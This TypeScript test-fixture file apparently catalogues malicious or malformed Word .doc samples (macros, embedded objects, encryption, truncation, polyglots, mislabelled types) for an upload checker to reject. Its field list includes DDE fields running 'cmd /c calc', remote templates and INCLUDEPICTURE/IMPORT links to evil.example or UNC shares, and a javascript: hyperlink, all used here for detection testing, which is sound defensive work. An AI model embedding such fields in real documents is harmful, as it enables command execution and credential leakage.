import type { FileFault } from '#server/platform/uploads/file-checks/refused.ts'
import { type BadFile, firstHalf, badDocx } from './bad-file.ts'
import { buildDoc, buildOle, docField, type OlePart, wordStreams } from './ole.ts'
import { buildDocx } from './zip.ts'

const program = Buffer.from('4d5a90000300000004000000ffff0000', 'hex')

function bad(name: string, fault: FileFault, bytes: () => Buffer): BadFile {
  return { name: `doc: ${name}`, kind: 'doc', fault, bytes }
}

const parts: [name: string, ...parts: OlePart[]][] = [
  ['macros', ['Macros/VBA/_VBA_PROJECT']],
  ['macros in small letters', ['macros/vba/']],
  ['macros at the top', ['_VBA_PROJECT_CUR/dir']],
  ['macros under another name', ['Settings/_VBA_PROJECT']],
  ['macros among its data', ['MsoDataStore/a/VBA']],
  ['an embedded object', ['ObjectPool/_1/x']],
  ['an embedded object in small letters', ['objectpool/_1']],
  ['an embedded package', ['\u0001Ole10Native']],
  ['an embedded package by another name', ['Package']],
  ['a control', ['\u0003OCXNAME']],
  ['an embedded workbook', ['Workbook']],
  ['a part nobody knows', ['Gadget']],
  ['a link to another document', ['\u0001Ole', Buffer.from('0100000201000000', 'hex')]],
]

const fields = [
  'DDE cmd "/c calc" x',
  ' DDEAUTO cmd "/c calc"',
  ' dDeAuto cmd x',
  ' INCLUDEPICTURE "http://evil.example/a.png" \\d',
  ' INCLUDETEXT "\\\\\\\\evil.example\\\\a.doc"',
  ' LINK Excel.Sheet.8 "C:\\\\a.xls"',
  ' EMBED Package',
  ' MACROBUTTON AutoOpen Click',
  ' IMPORT "http://evil.example/a"',
  ' AUTOTEXT x',
  ' DATABASE \\d "a.mdb"',
  ' CONTROL Forms.CommandButton.1',
  ' PRINT "x"',
  ' HYPERLINK "file:///C:/Windows/a.exe"',
  ' HYPERLINK "\\\\\\\\evil.example\\\\share\\\\a.exe"',
  ' HYPERLINK \\l "here" "javascript:alert(1)"',
  '',
]

const closed: BadFile[] = [
  bad('encrypted', 'locked', () => buildDoc([], 'x', { flags: 0x0100 })),
  bad('obfuscated', 'locked', () => buildDoc([], 'x', { flags: 0x8000 })),
  bad('sealed package', 'locked', encryptedPackage),
  badDocx('sealed by a password', 'locked', encryptedPackage),
]

const malformed: BadFile[] = [
  bad('cut in half', 'damaged', () => firstHalf(buildDoc())),
  bad('only its first bytes', 'damaged', () => buildDoc().subarray(0, 8)),
  bad('only its header', 'damaged', () => buildDoc().subarray(0, 512)),
  bad('a chain that leads into itself', 'damaged', loop),
  bad('another main stream', 'damaged', () => buildOle([['WordDocument']])),
  bad('no table', 'damaged', () => buildOle(wordStreams().slice(0, 1))),
  bad('two main streams', 'damaged', () => buildDoc([['WORDDOCUMENT']])),
  bad('a field that does not end', 'damaged', () => buildDoc([], '\u0013PAGE\u0014')),
  bad('a field that does not begin', 'damaged', () => buildDoc([], 'x\u0015')),
]

const twoFaced: BadFile[] = [
  bad('a zip behind', 'active', () => Buffer.concat([buildDoc(), buildDocx()])),
  ...[
    { name: 'a page of HTML', content: '<html><script>1</script></html>' },
    { name: 'a script of a shell', content: '#!/bin/sh\necho\n' },
    { name: 'RTF', content: '{\\rtf1 x}' },
    {
      name: 'a zip with more behind it',
      content: Buffer.concat([buildDocx(), Buffer.from('x'.repeat(100))]),
    },
    { name: 'a sector of its own', content: Buffer.alloc(512, 'x') },
  ].map(({ name, content }) =>
    bad(`${name} behind`, 'active', () => Buffer.concat([buildDoc(), Buffer.from(content)])),
  ),
  bad('a program within', 'active', () => buildDoc([['Data', program]])),
  bad('a document within', 'active', () => buildDoc([['Data', buildDoc()]])),
  ...[
    { name: 'xls called doc', bytes: () => buildOle([['Workbook']]) },
    { name: 'msi called doc', bytes: () => buildOle([['\u4840\u3f3f\u4577\u446c']]) },
    { name: 'docx called doc', bytes: () => buildDocx() },
    { name: 'rtf called doc', bytes: () => Buffer.from('{\\rtf1\\ansi{\\object\\objdata 01}}') },
  ].map((one) => ({ ...one, kind: 'doc' as const, fault: 'wrong kind' as const })),
  { name: 'doc called docx', kind: 'docx', fault: 'wrong kind', bytes: () => buildDoc() },
]

/** Word 97–2003 documents, and what passes for them. */
export const badDocs = {
  'DOC: macros, objects, links': [
    ...parts.map(([name, ...more]) => bad(name, 'active', () => buildDoc(more))),
    ...['http://evil.example/t.dot', '\\\\evil.example\\t.dot', 'file://evil.example/t.dot'].map((template) =>
      bad(`a template at ${template}`, 'active', () => buildDoc([], 'x', { template })),
    ),
  ],
  'DOC: fields': fields
    .flatMap((field) => [bad(`a field ${field}`, 'active', () => buildDoc([], `x${docField(field)}`))])
    .concat([
      bad('a field within a field', 'active', () => buildDoc([], docField(` PAGE ${docField(' DDE x y')}`))),
      bad('a field in the answer of another', 'active', () =>
        buildDoc([], docField(' PAGE ', docField('DDE x y'))),
      ),
      bad('a field whose name another one makes', 'active', () =>
        buildDoc([], docField(`${docField('QUOTE DDE')} x`)),
      ),
      bad('a field in narrow letters', 'active', () => buildDoc([], docField(' DDE x'), { narrow: true })),
    ]),
  'DOC: encrypted': closed,
  'DOC: malformed': malformed,
  'DOC: another file in the same bytes': twoFaced,
} satisfies Record<string, BadFile[]>

function encryptedPackage(): Buffer {
  return buildOle([['EncryptedPackage'], ['EncryptionInfo']])
}

function loop(): Buffer {
  const bytes = buildDoc()
  const first = bytes.readUInt32LE(bytes.indexOf('WordDocument', 0, 'utf16le') + 116)
  const fat = 512 + bytes.readUInt32LE(76) * 512
  bytes.writeUInt32LE(first, fat + first * 4)
  return bytes
}
